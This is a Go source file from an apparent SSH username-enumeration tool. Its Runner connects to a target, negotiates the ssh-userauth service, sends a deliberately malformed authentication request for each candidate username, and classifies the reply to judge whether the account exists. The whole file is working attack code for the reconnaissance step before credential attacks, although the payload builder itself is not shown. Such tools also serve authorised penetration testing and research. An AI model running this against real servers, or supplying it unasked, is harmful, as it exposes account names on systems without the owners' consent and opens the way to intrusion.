package enum

import (
	"context"
	"errors"
	"fmt"

	"github.com/rs/zerolog"

	"github.com/sshenum/sshenum/pkg/wire"
)

// maxSkippedReplies bounds how many banner/keepalive messages the
// runner will consume while waiting for the classification-bearing
// reply. A server streaming more than this is not answering.
const maxSkippedReplies = 32

// Runner executes one enumeration attempt per call: connect,
// negotiate, send the crafted request, classify the reply, close.
// A single attempt per candidate is authoritative; failed attempts
// are reported, never retried.
type Runner struct {
	Cap  Capability
	Addr string
	Log  zerolog.Logger
}

// Attempt runs the full exchange for one candidate username. Every
// failure is converted into an Outcome here: nothing this method does
// can abort the surrounding enumeration. The connection and the
// ephemeral key material are released on every exit path.
func (r *Runner) Attempt(ctx context.Context, username string) Outcome {
	conn, err := r.Cap.Open(ctx, r.Addr)
	if err != nil {
		r.Log.Debug().Str("user", username).Err(err).Msg("connect failed")
		return Outcome{
			Username: username,
			Verdict:  VerdictConnectionError,
			Reason:   err.Error(),
		}
	}
	defer conn.Close()

	sess, err := conn.Handshake(ctx)
	if err != nil {
		r.Log.Debug().Str("user", username).Err(err).Msg("handshake failed")
		return Outcome{
			Username: username,
			Verdict:  Classify(nil, err),
			Reason:   err.Error(),
		}
	}
	defer sess.Close()

	if err := r.enterUserAuth(sess); err != nil {
		r.Log.Debug().Str("user", username).Err(err).Msg("service negotiation failed")
		return Outcome{
			Username: username,
			Verdict:  Classify(nil, err),
			Reason:   err.Error(),
		}
	}

	payload, err := r.buildRequest(username, sess.SessionID())
	if err != nil {
		// A builder failure is a local bug, not a fact about the
		// target. It still yields exactly one outcome line; the log
		// entry is what flags it for the operator.
		r.Log.Error().Str("user", username).Err(err).Msg("request construction failed")
		return Outcome{
			Username: username,
			Verdict:  VerdictConnectionError,
			Reason:   fmt.Sprintf("internal: %v", err),
		}
	}

	if err := sess.WritePacket(payload); err != nil {
		return Outcome{
			Username: username,
			Verdict:  VerdictConnectionError,
			Reason:   err.Error(),
		}
	}

	reply, err := r.awaitReply(sess)
	verdict := Classify(reply, err)
	out := Outcome{Username: username, Verdict: verdict}
	if err != nil {
		out.Reason = err.Error()
	} else if verdict == VerdictNegotiationFailed {
		out.Reason = fmt.Sprintf("unexpected reply message %d", reply.MessageType())
	}
	r.Log.Debug().Str("user", username).Stringer("verdict", verdict).Msg("classified")
	return out
}

// enterUserAuth requests the ssh-userauth service, the prologue every
// authentication attempt needs before USERAUTH_REQUEST is legal.
func (r *Runner) enterUserAuth(sess Session) error {
	req := &wire.ServiceRequest{Service: wire.ServiceUserAuth}
	if err := sess.WritePacket(req.Marshal()); err != nil {
		return err
	}

	for i := 0; i < maxSkippedReplies; i++ {
		payload, err := sess.ReadPacket()
		if err != nil {
			return err
		}
		msg, err := wire.Decode(payload)
		if err != nil {
			return fmt.Errorf("%w: %v", ErrNegotiation, err)
		}
		switch m := msg.(type) {
		case *wire.ServiceAccept:
			if m.Service != wire.ServiceUserAuth {
				return fmt.Errorf("%w: server accepted service %q", ErrNegotiation, m.Service)
			}
			return nil
		case *wire.Ignore, *wire.Debug, *wire.UserauthBanner:
			continue
		case *wire.Disconnect:
			return fmt.Errorf("%w: server disconnected: %s", ErrNegotiation, m.Description)
		default:
			return fmt.Errorf("%w: unexpected message %d awaiting service accept",
				ErrNegotiation, msg.MessageType())
		}
	}
	return fmt.Errorf("%w: no service accept", ErrNegotiation)
}

func (r *Runner) buildRequest(username string, sessionID []byte) ([]byte, error) {
	key, err := GenerateEphemeralKey()
	if err != nil {
		return nil, err
	}
	return BuildMalformedRequest(username, key, sessionID)
}

// awaitReply reads until the first message that carries the verdict,
// skipping the chatter servers interleave during authentication.
func (r *Runner) awaitReply(sess Session) (wire.Message, error) {
	for i := 0; i < maxSkippedReplies; i++ {
		payload, err := sess.ReadPacket()
		if err != nil {
			return nil, err
		}
		msg, err := wire.Decode(payload)
		if err != nil {
			if errors.Is(err, wire.ErrMalformedMessage) {
				return nil, fmt.Errorf("%w: %v", ErrNegotiation, err)
			}
			return nil, err
		}
		switch msg.(type) {
		case *wire.Ignore, *wire.Debug, *wire.UserauthBanner:
			continue
		default:
			return msg, nil
		}
	}
	return nil, fmt.Errorf("%w: server kept talking without answering", ErrNegotiation)
}
